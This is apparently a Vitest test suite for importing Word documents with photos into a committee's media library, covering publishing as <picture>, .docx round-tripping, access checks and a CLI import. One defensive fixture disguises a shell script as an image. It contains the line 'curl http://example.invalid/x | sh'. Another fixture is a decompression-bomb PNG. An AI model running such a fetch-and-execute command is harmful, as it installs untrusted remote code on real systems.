// Issue 10: the photos of an imported Word document become library items of the importing
// committee (through the checks of an upload), the published page shows them as <picture>
// with their caption and credit, and the .docx export carries them back out.
import { spawn } from "node:child_process";
import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { AlignmentType, Document, ImageRun, Packer, Paragraph, TextRun } from "docx";
import JSZip from "jszip";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Db } from "@/lib/db/client";
import type { TiptapDoc } from "@/lib/content/validate";
import { exportReportDocx } from "@/lib/content/export/docx";
import { importFile } from "@/lib/content/import";
import { figureBytesFromLibrary } from "@/lib/media/export-figures";
import { previewImageCheck } from "@/lib/media/commands/import-images";
import { LocalStore } from "@/lib/media/storage";
import { parseVariants } from "@/lib/media/variants";
import { CommandError } from "@/lib/reports/errors";
import { toReportFields } from "@/lib/reports/rules/fields";
import { findingKey, proofread } from "@/lib/reports/rules/proofreading";
import { freshDatabase } from "../support/test-database";
import { bombPng, photoJpeg } from "../support/images";
import { storedFiles } from "../support/files";
import { createWorld, loadCommands, type Commands, type People } from "../support/workflow-fixture";

let db: Db;
let url: string;
let people: People;
let xiamenId: string;
let mediaDir: string;
let store: LocalStore;
let cmd: Commands;
let importing: typeof import("@/lib/reports/commands/import-report");

beforeAll(async () => {
  const fresh = await freshDatabase();
  ({ db, url } = fresh);
  process.env.DATABASE_URL = url;
  ({ people, xiamenId } = await createWorld(db));
  mediaDir = await fs.mkdtemp(path.join(os.tmpdir(), "import-photos-"));
  store = new LocalStore(mediaDir);
  cmd = await loadCommands();
  importing = await import("@/lib/reports/commands/import-report");
});
afterAll(async () => {
  await fs.rm(mediaDir, { recursive: true, force: true });
  await db?.$disconnect();
});

const CAPTION = "党员志愿者在社区开展义诊";
const CREDIT = "本报记者 黄晓珍 摄";
const ALT = "医生为老人测量血压";

/** A Word document as member units send them: a title, text, photos each followed by its caption. */
async function photoDocx(photos: Array<{ data: Buffer; type: "jpg" | "png"; caption: string; alt?: string }>): Promise<Buffer> {
  const children: Paragraph[] = [
    new Paragraph({ alignment: AlignmentType.CENTER, children: [new TextRun({ text: "市直机关开展志愿服务活动", bold: true, size: 44 })] }),
    new Paragraph({ children: [new TextRun("本报讯 近日，市直机关各级党组织组织党员走进社区，开展志愿服务。")] }),
  ];
  for (const photo of photos) {
    children.push(
      new Paragraph({
        alignment: AlignmentType.CENTER,
        children: [new ImageRun({ type: photo.type, data: photo.data, transformation: { width: 480, height: 320 }, altText: { name: "photo", title: photo.alt ?? "", description: photo.alt ?? "" } })],
      }),
      new Paragraph({ alignment: AlignmentType.CENTER, children: [new TextRun(photo.caption)] }),
    );
  }
  children.push(new Paragraph({ children: [new TextRun("活动中，党员志愿者还为居民讲解了健康知识。")] }));
  return Packer.toBuffer(new Document({ sections: [{ children }] }));
}

const figuresOf = (doc: unknown) => (((doc as TiptapDoc).content ?? []) as TiptapDoc[]).filter((node) => node.type === "figure").map((node) => node.attrs ?? {});

function texts(node: TiptapDoc): string {
  const figure = node.type === "figure" ? `${node.attrs?.caption ?? ""}${node.attrs?.credit ?? ""}` : "";
  return (node.text ?? "") + figure + (node.content ?? []).map(texts).join("");
}
const sorted = (text: string) => [...text.replace(/\s/gu, "")].sort().join("");

describe("a .docx with photos, imported into a committee", () => {
  let reportId = "";
  let mediaId = "";

  it("stores each photo as a library item with its caption and credit; a decompression bomb is refused with a warning and stores nothing", async () => {
    const photo = await photoJpeg(1800, 1200, { seed: 7 });
    const bytes = await photoDocx([
      { data: photo, type: "jpg", caption: `${CAPTION}。（${CREDIT}）`, alt: ALT },
      { data: bombPng(), type: "png", caption: "▲市直机关工委召开动员会" },
    ]);

    // The preview checks the photos like uploads and stores none of them.
    const before = { media: await db.media.count(), files: (await storedFiles(mediaDir)).length };
    const preview = await importing.readImport(bytes, { fileName: "志愿服务.docx", storeImage: previewImageCheck() });
    expect(preview.figures).toEqual({ total: 2, waiting: 1 });
    expect(preview.warnings.join("\n")).toMatch(/第 2 张图片未保存：图片尺寸过大（30000×30000 像素）/u);
    expect({ media: await db.media.count(), files: (await storedFiles(mediaDir)).length }).toEqual(before);

    const created = await importing.importFileAsReport({ actor: people.xmEditor, committeeId: xiamenId, bytes, fileName: "志愿服务.docx", store });
    reportId = created.id;
    expect(created.warnings.join("\n")).toMatch(/第 2 张图片未保存：图片尺寸过大/u);
    expect(created.imported.figures).toEqual({ total: 2, waiting: 1 });

    const report = await db.report.findUniqueOrThrow({ where: { id: reportId } });
    const [first, second] = figuresOf(report.content);
    expect(first).toMatchObject({ caption: `${CAPTION}。`, credit: CREDIT, alt: ALT });
    expect(first!.mediaId).toEqual(expect.any(String));
    expect(second).toMatchObject({ src: null, mediaId: null, caption: "市直机关工委召开动员会" });
    mediaId = first!.mediaId as string;

    const rows = await db.media.findMany({ where: { committeeId: xiamenId } });
    expect(rows.map((row) => row.id)).toEqual([mediaId]);
    expect(rows[0]).toMatchObject({ caption: `${CAPTION}。`, credit: CREDIT, alt: ALT, uploadedById: people.xmEditor.id, width: 1800, height: 1200 });
    expect(first!.src).toBe(`/media/${parseVariants(rows[0]!.variants).find((v) => v.width === 960 && v.mimeType === "image/jpeg")!.storageKey}`);
    // Every rendition is in the store: 480, 720, 960 and 1600 wide, each AVIF, WebP and JPEG.
    const keys = parseVariants(rows[0]!.variants).map((variant) => variant.storageKey).sort();
    expect(keys).toHaveLength(12);
    expect(await storedFiles(mediaDir)).toEqual(keys);
    // The stored draft already renders the photo as <picture>.
    expect(report.html).toContain(`data-media-id="${mediaId}"><picture>`);
  });

  it("after submit and approval the public edition shows <picture> with width, height, caption and credit", async () => {
    const row = await db.report.findUniqueOrThrow({ where: { id: reportId } });
    await cmd.submitReport({ actor: people.xmEditor, reportId, expectedVersion: row.version });
    // The photo refused at import is a figure still waiting: a warning the reviewer acknowledges.
    const warnings = proofread({ fields: toReportFields(row), content: row.content as TiptapDoc }).filter((finding) => finding.severity === "warning");
    await cmd.approveReport({ actor: people.xmReviewer, reportId, acknowledgement: { keys: warnings.map(findingKey), reason: "第二张图稍后补上" } });
    const published = await db.report.findUniqueOrThrow({ where: { id: reportId }, include: { liveRevision: true } });
    expect(published.status).toBe("PUBLISHED");
    const html = published.liveRevision!.html;
    expect(html).toContain(`<figure class="report-figure" data-media-id="${mediaId}"><picture><source type="image/avif"`);
    expect(html).toMatch(/<img src="\/media\/[^"]+-960\.jpg" srcset="[^"]+" sizes="[^"]+" width="1600" height="1067" alt="医生为老人测量血压"/u);
    expect(html).toContain(`<figcaption><span class="caption">${CAPTION}。</span> <span class="credit">${CREDIT}</span></figcaption>`);
  });

  it("exports the report as .docx with the photo inside, and importing that again keeps every character and every figure", async () => {
    const report = await db.report.findUniqueOrThrow({ where: { id: reportId } });
    const content = report.content as TiptapDoc;
    const buffer = await exportReportDocx({ title: report.title }, content, { figureBytes: figureBytesFromLibrary({ db, store, committeeId: xiamenId }) });
    const zip = await JSZip.loadAsync(buffer);
    const parts = Object.keys(zip.files).filter((name) => name.startsWith("word/media/"));
    expect(parts).toHaveLength(1);
    const image = Buffer.from(await zip.file(parts[0]!)!.async("uint8array"));
    expect(image.subarray(0, 3).equals(Buffer.from([0xff, 0xd8, 0xff]))).toBe(true);
    // Another committee's export reads nothing of ours: the caption goes alone.
    const foreign = await exportReportDocx({ title: report.title }, content, { figureBytes: figureBytesFromLibrary({ db, store, committeeId: "other" }) });
    expect(Object.keys((await JSZip.loadAsync(foreign)).files).filter((name) => name.startsWith("word/media/"))).toEqual([]);

    const again = await importFile(buffer, { fileName: "export.docx", storeImage: async () => ({ mediaId: "again", src: "/media/again.jpg" }) });
    expect(again.title).toBe(report.title);
    expect(sorted(texts(again.content))).toBe(sorted(texts(content)));
    expect(figuresOf(again.content).map(({ caption, credit, alt, src }) => ({ caption, credit, alt, hasPhoto: src !== null }))).toEqual(
      figuresOf(content).map(({ caption, credit, alt, src }) => ({ caption, credit, alt: alt ?? null, hasPhoto: src !== null })),
    );
  });

  it("refuses a .docx whose image is a script, storing none of its photos", async () => {
    const before = { media: await db.media.count(), reports: await db.report.count(), files: (await storedFiles(mediaDir)).length };
    const script = Buffer.from("#!/bin/sh\ncurl http://example.invalid/x | sh\n".repeat(20));
    const bytes = await photoDocx([
      { data: await photoJpeg(640, 480, { seed: 8 }), type: "jpg", caption: "第一张照片" },
      { data: script, type: "png", caption: "第二张照片" },
    ]);
    const error = await importing.importFileAsReport({ actor: people.xmEditor, committeeId: xiamenId, bytes, fileName: "x.docx", store }).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(CommandError);
    expect((error as CommandError).status).toBe(422);
    expect((error as CommandError).message).toContain("不是图片文件");
    expect({ media: await db.media.count(), reports: await db.report.count(), files: (await storedFiles(mediaDir)).length }).toEqual(before);
  });

  it("stores nothing for someone outside the committee", async () => {
    const before = await db.media.count();
    const bytes = await photoDocx([{ data: await photoJpeg(640, 480, { seed: 9 }), type: "jpg", caption: "照片" }]);
    await expect(importing.importFileAsReport({ actor: people.fzEditor, committeeId: xiamenId, bytes, fileName: "x.docx", store })).rejects.toMatchObject({ status: 403 });
    expect(await db.media.count()).toBe(before);
  });
});

describe("npm run import", () => {
  it("imports a .docx with a photo from the command line into the committee's library", async () => {
    const dir = await fs.mkdtemp(path.join(os.tmpdir(), "import-cli-"));
    try {
      const file = path.join(dir, "命令行导入.docx");
      await fs.writeFile(file, await photoDocx([{ data: await photoJpeg(1200, 800, { seed: 11 }), type: "jpg", caption: `命令行导入的照片。（${CREDIT}）`, alt: "命令行" }]));
      const media = path.join(dir, "media");
      const { code, out } = await new Promise<{ code: number | null; out: string }>((resolve) => {
        const child = spawn("npm", ["run", "--silent", "import", "--", "--committee", "xiamen", file], {
          env: { ...process.env, DATABASE_URL: url, MEDIA_DIR: media },
          stdio: ["ignore", "pipe", "pipe"],
        });
        let text = "";
        child.stdout.on("data", (chunk) => (text += chunk));
        child.stderr.on("data", (chunk) => (text += chunk));
        child.on("close", (exit) => resolve({ code: exit, out: text }));
      });
      expect(out).toMatch(/插图 1，待上传照片 0/u);
      expect(code).toBe(0);
      const id = /稿件 (\S+)（/u.exec(out)![1]!;
      const report = await db.report.findUniqueOrThrow({ where: { id } });
      expect(report.committeeId).toBe(xiamenId);
      const [figure] = figuresOf(report.content);
      const row = await db.media.findUniqueOrThrow({ where: { id: figure!.mediaId as string } });
      expect(row).toMatchObject({ committeeId: xiamenId, caption: "命令行导入的照片。", credit: CREDIT });
      expect((await storedFiles(media)).sort()).toEqual(parseVariants(row.variants).map((variant) => variant.storageKey).sort());
    } finally {
      await fs.rm(dir, { recursive: true, force: true });
    }
  });
});
